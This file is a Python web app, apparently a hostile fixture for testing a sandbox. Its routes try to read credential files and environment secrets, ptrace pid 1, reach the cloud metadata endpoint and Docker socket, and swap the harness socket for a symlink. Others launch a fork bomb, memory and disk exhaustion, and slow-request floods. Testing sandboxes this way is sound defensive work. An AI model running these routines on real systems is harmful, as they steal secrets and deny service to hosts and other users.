"""A hostile app: every route tries to escape, exhaust or deceive the sandbox, and reports what happened."""

import ctypes
import json
import os
import socket
import subprocess
import sys
import threading
import time

SECRET_NAMES = ("GOVMARKET_SECRET_KEY", "DATABASE_URL", "REDIS_URL", "SANDBOX_TEST_SECRET")


def _try(fn):
    try:
        return {"ok": True, "result": repr(fn())[:200]}
    except BaseException as exc:
        return {"ok": False, "error": f"{type(exc).__name__}: {exc}"[:200]}


def _connect(target):
    if isinstance(target, str):
        s = socket.socket(socket.AF_UNIX)
    else:
        s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET)
    s.settimeout(2)
    try:
        s.connect(target)
        return "connected"
    finally:
        s.close()


def network():
    targets = {"internet": ("1.1.1.1", 443), "pypi": ("151.101.0.223", 443), "metadata": ("169.254.169.254", 80),
               "redis": ("127.0.0.1", 6379), "postgres": ("127.0.0.1", 5432), "loopback6_redis": ("::1", 6379),
               "docker_socket": "/var/run/docker.sock", "docker_socket_run": "/run/docker.sock"}
    out = {name: _try(lambda t=t: _connect(t)) for name, t in targets.items()}
    out["dns"] = _try(lambda: socket.getaddrinfo("pypi.org", 443))
    return out


def privileges():
    libc = ctypes.CDLL(None, use_errno=True)
    def mount():
        if libc.mount(b"tmpfs", b"/mnt", b"tmpfs", 0, None) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    def unshare_user():
        if libc.unshare(0x10000000) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    def ptrace_parent():
        if libc.ptrace(16, os.getppid() or 1, None, None) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return {"uid": os.getuid(), "euid": os.geteuid(), "setuid0": _try(lambda: os.setuid(0)), "mount": _try(mount),
            "unshare_user": _try(unshare_user), "ptrace": _try(ptrace_parent),
            "chroot": _try(lambda: os.chroot("/tmp")),
            "visible_processes": [p for p in os.listdir("/proc") if p.isdigit()],
            "sudo": _try(lambda: subprocess.run(["su", "-c", "id"], capture_output=True, timeout=2).returncode)}


def secrets():
    found = {name: os.environ[name] for name in SECRET_NAMES if name in os.environ}
    environ1 = _try(lambda: open("/proc/1/environ", "rb").read().decode(errors="replace"))
    host_files = {p: _try(lambda p=p: open(p).read(100)) for p in ("/etc/shadow", "/root/.bash_history", "/proc/1/cmdline")}
    return {"env": dict(os.environ), "found": found, "proc1_environ": environ1, "host_files": host_files}


def filesystem():
    def fill_tmp():
        written = 0
        with open("/tmp/fill", "wb") as fh:
            try:
                while written < 1 << 30:
                    fh.write(b"\0" * (1 << 20))
                    written += 1 << 20
                fh.flush()
            except OSError as exc:
                return f"stopped after {written} bytes: {exc}"
        return f"wrote {written} bytes"
    def exec_tmp():
        with open("/tmp/x.sh", "w") as fh:
            fh.write("#!/bin/sh\necho ran\n")
        os.chmod("/tmp/x.sh", 0o755)
        return subprocess.run(["/tmp/x.sh"], capture_output=True, timeout=2).stdout
    return {"write_root": _try(lambda: open("/pwned", "w").write("x")),
            "write_app": _try(lambda: open("/app/pwned", "w").write("x")),
            "write_usr": _try(lambda: open("/usr/bin/pwned", "w").write("x")),
            "fill_tmp": _try(fill_tmp), "exec_tmp": _try(exec_tmp)}


def host_facts():
    """What the sandbox shows of the host: pid 1 (bubblewrap's init, or the app itself on Docker), mounts, fds."""
    libc = ctypes.CDLL(None, use_errno=True)

    def ptrace_init():
        if libc.ptrace(16, 1, None, None) != 0:  # PTRACE_ATTACH to pid 1
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return "attached"

    def fds():
        return {fd: os.readlink(f"/proc/self/fd/{fd}") for fd in os.listdir("/proc/self/fd")
                if os.path.exists(f"/proc/self/fd/{fd}")}

    import resource
    return {"proc1_cmdline": _try(lambda: open("/proc/1/cmdline", "rb").read().decode(errors="replace")),
            "proc1_environ": _try(lambda: open("/proc/1/environ", "rb").read().decode(errors="replace")),
            "proc1_mem": _try(lambda: open("/proc/1/mem", "rb").read(1)),
            "ptrace_init": _try(ptrace_init),
            "mountinfo": open("/proc/self/mountinfo").read(),
            "fds": fds(),
            "nofile": resource.getrlimit(resource.RLIMIT_NOFILE),
            "exec_tmp": _try(lambda: filesystem_exec("/tmp")),
            "exec_sock": _try(lambda: filesystem_exec(os.path.dirname(os.environ["GOVAPP_SOCKET"])))}


def filesystem_exec(folder):
    path = os.path.join(folder, "x.sh")
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\necho ran\n")
    os.chmod(path, 0o755)
    try:
        return subprocess.run([path], capture_output=True, timeout=2).stdout
    finally:
        os.unlink(path)


def fill_sockets():
    """Write into the socket folder (on the host side of the sandbox) until the kernel says no."""
    written = 0
    folder = os.path.dirname(os.environ["GOVAPP_SOCKET"])
    try:
        with open(os.path.join(folder, "fill"), "wb") as fh:
            while written < 1 << 30:
                fh.write(b"\0" * (1 << 20))
                fh.flush()
                written += 1 << 20
    except OSError as exc:
        return {"written": written, "error": str(exc)}
    return {"written": written}


def plant(target):
    """Answer, then put a link to ``target`` (a host socket) where app.sock was, for the harness's next request."""
    sock = os.environ["GOVAPP_SOCKET"]

    def swap():
        time.sleep(0.3)
        os.unlink(sock)
        os.symlink(target, sock)
    threading.Thread(target=swap, daemon=True).start()
    return {"planted": target}


def department_abuse(connections):
    """Send the department service an oversized body, then hold half-sent requests open to it."""
    path = os.environ["GOVAPP_DEPT_SOCKET"]
    big = socket.socket(socket.AF_UNIX)
    big.settimeout(3)
    try:
        big.connect(path)
        big.sendall(b"POST /applications/food-licence HTTP/1.1\r\nHost: d\r\nContent-Length: 314572800\r\n\r\n")
        big.sendall(b"x" * 65536)
        answer = big.recv(200)
    except OSError as exc:
        answer = str(exc).encode()
    finally:
        big.close()
    held, refused = [], 0
    for _ in range(connections):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(1)
        try:
            s.connect(path)
            s.sendall(b"POST /applications/food-licence HTTP/1.1\r\nHost: d\r\nContent-Length: 100\r\n\r\n{")
            held.append(s)
        except OSError:
            refused += 1
            s.close()
    time.sleep(0.5)
    closed = 0
    for s in held:
        s.setblocking(False)
        try:
            if s.recv(1) == b"":
                closed += 1
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        s.close()
    return {"held": len(held), "refused": refused, "closed_by_service": closed, "big_answer": answer.decode(errors="replace")}


def fork_bomb(hold=False):
    children = 0

    def fork():
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)

    if hold:  # keep taking every process slot that frees up (this request's own thread, when it ends)
        def press():
            for _ in range(1000):
                try:
                    fork()
                except OSError:
                    time.sleep(0.01)
        threading.Thread(target=press, daemon=True).start()
    try:
        while True:
            fork()
            children += 1
    except OSError as exc:
        return {"children": children, "error": str(exc)}


def memory_hog():
    hog = []
    while True:
        hog.append(bytearray(16 << 20))


def spin():
    def burn():
        while True:
            pass
    for _ in range(4):
        threading.Thread(target=burn, daemon=True).start()
    burn()


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(1)
        os._exit(0)
    return {"daemonised": True}


def app(environ, start_response):
    path = environ["PATH_INFO"]
    if path == "/huge":
        start_response("200 OK", [("Content-Type", "application/octet-stream")])
        return [b"x" * (1 << 20)] * 64
    if path == "/endless":
        start_response("200 OK", [("Content-Type", "application/octet-stream")])
        def forever():
            while True:
                yield b"y" * 65536
        return forever()
    if path == "/drip":
        start_response("200 OK", [("Content-Type", "text/plain"), ("Content-Length", "1000")])
        def drip():
            for _ in range(1000):
                time.sleep(0.2)
                yield b"."
        return drip()
    if path == "/flood":
        chunk = "z" * 65536 + "\n"
        for _ in range(300):
            sys.stdout.write(chunk)
            sys.stderr.write(chunk)
        sys.stdout.flush()
    if path == "/crash":
        os._exit(3)
    if path == "/headers":
        start_response("200 OK", [(f"X-Padding-{i}", "h" * 1000) for i in range(80)])
        return [b"{}"]
    query = dict(p.split("=", 1) for p in environ.get("QUERY_STRING", "").split("&") if "=" in p)
    handlers = {"/network": network, "/privileges": privileges, "/secrets": secrets, "/filesystem": filesystem,
                "/fork-bomb": lambda: fork_bomb("hold" in query), "/memory": memory_hog, "/spin": spin, "/daemon": daemon,
                "/flood": lambda: {"flooded": True}, "/ok": lambda: {"ok": True}, "/host-facts": host_facts,
                "/fill-sockets": fill_sockets, "/plant": lambda: plant(query["target"]),
                "/department-abuse": lambda: department_abuse(int(query.get("connections", "100")))}
    body = json.dumps(handlers[path]()).encode()
    start_response("200 OK", [("Content-Type", "application/json"), ("Content-Length", str(len(body)))])
    return [body]
